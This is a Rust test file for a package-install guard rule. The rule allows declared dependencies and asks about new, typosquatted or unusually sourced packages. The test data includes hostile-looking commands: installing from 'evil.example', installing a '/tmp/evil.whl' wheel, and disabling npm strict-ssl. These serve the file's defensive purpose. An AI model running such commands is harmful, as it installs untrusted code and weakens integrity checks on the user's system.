//! The rule's logic on the host target. The full behaviour is specified by
//! `cases.toml`, which runs against the built component.

use super::*;
use hookwarden_sdk::{Decision, Fact, GrantedFile, testing};

const PACKAGE_JSON: &str =
    r#"{"dependencies":{"react":"^18","lodash":"^4"},"devDependencies":{"typescript":"^5"}}"#;
const REQUIREMENTS: &str = "requests==2.31\nnumpy>=1.26\n";

fn event(command: &str, files: &[(&str, &str)]) -> Event {
    let mut e = testing::shell(command);
    e.facts = files
        .iter()
        .map(|(p, c)| {
            Fact::File(GrantedFile {
                path: format!("/work/project/{p}"),
                content: c.to_string(),
                truncated: false,
            })
        })
        .collect();
    e
}

fn run(command: &str, files: &[(&str, &str)], config: serde_json::Value) -> Verdict {
    PackageGuard::evaluate(&event(command, files), &Config::from_value(config).unwrap()).unwrap()
}

fn decision(command: &str) -> Decision {
    run(
        command,
        &[
            ("package.json", PACKAGE_JSON),
            ("requirements.txt", REQUIREMENTS),
        ],
        serde_json::json!({}),
    )
    .decision
}

#[test]
fn declared_packages_and_plain_installs_pass() {
    for c in [
        "npm install",
        "npm ci",
        "npm install react@18.2.0",
        "npm i -D typescript",
        "pip install -r requirements.txt",
        "pip install -e .",
        "pip install requests",
        "python3 -m pip install --upgrade pip",
        "npm test",
        "npm run build",
        "cargo test",
        "pip list",
        "ls",
    ] {
        assert_eq!(decision(c), Decision::Allow, "{c}");
    }
}

#[test]
fn new_packages_are_asked_with_hints() {
    let v = run(
        "pip install reqeusts",
        &[("requirements.txt", REQUIREMENTS)],
        serde_json::json!({}),
    );
    assert_eq!(v.decision, Decision::Ask);
    assert_eq!(v.findings[0].id, "package-guard.new-package");
    assert!(v.reason.contains("requirements.txt"), "{}", v.reason);
    assert!(v.reason.contains("`requests`"), "{}", v.reason);
    assert!(v.findings.iter().any(|f| f.id == "package-guard.typosquat"));
    assert_eq!(decision("npm install left-pad"), Decision::Ask);
    let strict = run(
        "npm i left-pad",
        &[("package.json", PACKAGE_JSON)],
        serde_json::json!({"new_packages": "deny"}),
    );
    assert_eq!(strict.decision, Decision::Deny);
}

#[test]
fn missing_manifests_and_sources() {
    let v = run("cargo add serde", &[], serde_json::json!({}));
    assert_eq!(v.decision, Decision::Ask);
    assert!(v.reason.contains("not granted"), "{}", v.reason);
    assert_eq!(
        run(
            "cargo add serde",
            &[],
            serde_json::json!({"no_manifest": "allow"})
        )
        .decision,
        Decision::Allow
    );
    for c in [
        "pip install --extra-index-url https://pkgs.example/simple requests",
        "pip install git+https://github.com/x/y",
        "npm install https://evil.example/x.tgz",
        "pip install /tmp/evil.whl",
        "npm config set strict-ssl false",
    ] {
        assert_eq!(decision(c), Decision::Ask, "{c}");
    }
}

#[test]
fn configuration_errors_name_the_key() {
    for (bad, says) in [
        (serde_json::json!({ "new_package": "ask" }), "new_package"),
        (
            serde_json::json!({ "new_packages": "allow" }),
            "new_packages",
        ),
        (
            serde_json::json!({ "unsafe_sources": "maybe" }),
            "unsafe_sources",
        ),
        (
            serde_json::json!({ "allowed_packages": "pip" }),
            "allowed_packages",
        ),
    ] {
        let err = PackageGuard::evaluate(&testing::shell("ls"), &Config::from_value(bad).unwrap())
            .unwrap_err();
        assert!(err.contains(says), "{err}");
    }
}
